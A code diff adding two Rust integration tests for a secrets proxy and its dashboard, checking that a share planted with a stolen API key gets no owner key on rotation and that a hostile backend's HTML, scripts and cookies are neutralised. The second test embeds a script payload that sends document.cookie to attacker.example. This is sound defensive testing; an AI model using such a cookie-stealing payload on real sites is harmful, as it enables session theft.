@@ -407,3 +407,102 @@ async fn keys_published_without_a_bundle_are_used_only_with_the_fingerprint_the_
         .await;
     expect_json(ok, StatusCode::CREATED).await;
 }
+
+/// A4 with a stolen API key (A2's access suffices): a share the owner never made, to a user whose
+/// bundle verifies, is listed as open; a version written with the key alone makes the owner's next
+/// write a rotation. The rotation must not re-wrap the owner's new key to that user.
+#[tokio::test]
+async fn a_share_the_owner_never_made_gets_nothing_when_the_owners_next_write_rotates() {
+    let app = spawn_app().await;
+    let v = victim(&app).await;
+    owner_put(&app, &v, "db-url", "the owner's first value").await;
+    // The recipient stands for the attacker here: a user of the org with keys of their own that
+    // verify, whom the owner never shared with (so never pinned).
+    let bogus_wrap = |len: usize| {
+        let mut bytes = vec![1u8];
+        bytes.extend(std::iter::repeat_n(7u8, len - 1));
+        STANDARD.encode(bytes)
+    };
+    let grant = json!({
+        "recipientUserId": v.recipient_id, "permission": "read",
+        "encryptedAliasB64": bogus_wrap(crypto::WRAP_ECC_LEN + crypto::WRAP_KYBER_LEN + 40),
+        "encryptedAesKeyEccB64": bogus_wrap(crypto::WRAP_ECC_LEN),
+        "encryptedAesKeyKyberB64": bogus_wrap(crypto::WRAP_KYBER_LEN),
+        "keyEpoch": 1,
+    });
+    let planted = expect_json(app.post("/kv/db-url/shares", &v.owner, grant).await, StatusCode::CREATED).await;
+    let share_id = planted["shareId"].as_str().unwrap().to_owned();
+    let res = key_only(&app, &v, "db-url", "written with the key alone").await;
+    assert!(res.status().is_success(), "{}", res.status());
+
+    // The owner's next write rotates: it is refused, naming the share, and writes nothing.
+    let res = app
+        .proxy(
+            Method::PUT,
+            "/v1/kv/db-url",
+            &[("X-Api-Key", &v.owner), ("X-User-Secret", OWNER_SECRET)],
+            Some(json!({ "valueB64": STANDARD.encode("the owner's secret value") })),
+        )
+        .await;
+    let message = expect_error(res, StatusCode::CONFLICT).await;
+    assert!(message.contains("never shared with"), "{message}");
+    // What the planted share opens is at most what the key alone wrote, never the owner's value.
+    let headers = [("X-Api-Key", v.recipient.as_str()), ("X-User-Secret", RECIPIENT_SECRET)];
+    let res = app.proxy(Method::GET, &format!("/v1/kv/shared/{share_id}"), &headers, None).await;
+    if res.status().is_success() {
+        assert_ne!(value_of(&res.json().await.unwrap()), "the owner's secret value");
+    }
+    let read = expect_json(owner_get(&app, &v, "db-url").await, StatusCode::OK).await;
+    assert_eq!(value_of(&read), "written with the key alone", "nothing of the owner's was written");
+
+    // A share the owner made is pinned, and a rotation re-wraps to it as before.
+    let res =
+        app.proxy(Method::DELETE, &format!("/v1/kv/db-url/shares/{share_id}"), &[("X-Api-Key", &v.owner)], None).await;
+    assert_eq!(res.status(), StatusCode::NO_CONTENT);
+    let share_id = share_to_recipient(&app, &v, "db-url", "the database").await;
+    let res = key_only(&app, &v, "db-url", "again with the key alone").await;
+    assert!(res.status().is_success());
+    owner_put(&app, &v, "db-url", "the owner's value after all").await;
+    assert_eq!(recipient_reads(&app, &v, &share_id).await, "the owner's value after all");
+}
+
+/// A4, the Backend itself: its answers at the public edge (passed through, and through the
+/// dashboard's /ui/api) carry HTML with a script and a cookie for the dashboard's session. None of
+/// it may land on the dashboard's origin as a page, a script or a cookie.
+#[tokio::test]
+async fn a_hostile_backend_cannot_put_a_page_a_script_or_a_cookie_on_the_dashboards_origin() {
+    use axum::http::header;
+    let (user, org) = (Uuid::new_v4(), Uuid::new_v4());
+    let me = json!({ "id": user, "orgId": org, "name": "victim", "isAdmin": false });
+    let evil = axum::Router::new()
+        .route("/users/me", axum::routing::get(move || async move { axum::Json(me) }))
+        .fallback(|| async {
+            (
+                [(header::CONTENT_TYPE, "text/html"), (header::SET_COOKIE, "harden_session=planted; Path=/ui")],
+                "<script>fetch('//attacker.example/?' + document.cookie)</script>",
+            )
+        });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, evil).await.unwrap() });
+    let app = crate::helpers::spawn_app_with(|s| s.proxy_backend_url = url).await;
+    let inert = |headers: &reqwest::header::HeaderMap, what: &str| {
+        assert!(headers.get(header::SET_COOKIE).is_none(), "{what}: a cookie passed");
+        assert_eq!(headers[header::CONTENT_TYPE], "application/octet-stream", "{what}: HTML passed as HTML");
+        assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{what}");
+        assert!(headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap().starts_with("sandbox"), "{what}");
+    };
+    for path in ["/auth/orgadmin/anything", "/kv/x", "/cloud/organizations"] {
+        let res = app.client.get(format!("{}{path}", app.proxy)).send().await.unwrap();
+        inert(res.headers(), path);
+    }
+    // Signed in to the dashboard with a key the hostile Backend accepts, its /ui/api answers too.
+    let mut browser = crate::ui::Browser::new(&app);
+    let page = browser.get("/ui/sign-in").await;
+    let token = crate::ui::csrf(&page);
+    let signed = browser.post("/ui/sign-in", &[("csrf", &token), ("api_key", "hk_anything")]).await;
+    assert_eq!(signed.status, StatusCode::SEE_OTHER);
+    let answered = browser.get("/ui/api/kv/x").await;
+    inert(&answered.headers, "/ui/api/kv/x");
+    assert!(browser.get("/ui/").await.status.is_success(), "the dashboard's own session cookie was kept");
+}
